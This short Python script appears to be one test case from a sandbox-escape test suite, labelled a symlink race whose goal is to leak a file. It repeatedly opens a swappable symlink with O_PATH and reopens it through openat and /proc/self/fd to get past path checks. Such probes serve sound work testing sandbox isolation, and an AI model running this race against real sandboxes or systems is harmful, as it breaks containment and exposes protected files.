# SPDX-License-Identifier: Apache-2.0
# attack: the replaced symlink, followed by stat and readlink
# class: race
# wins: leak
# needs: race link
from kit import *

os.chdir(BOX + '/race')
st = stat_buf()
inside = os.stat(BOX + '/race/twin.txt').st_ino
tried()


def one(i):
    fd = openat('flip', os.O_PATH)
    if fd >= 0:
        again = sc('openat', fd, b'', os.O_RDONLY, 0)
        fd2 = openat('/proc/self/fd/%d' % fd)
        os.close(fd)
        return took(fd2)


rounds(one)
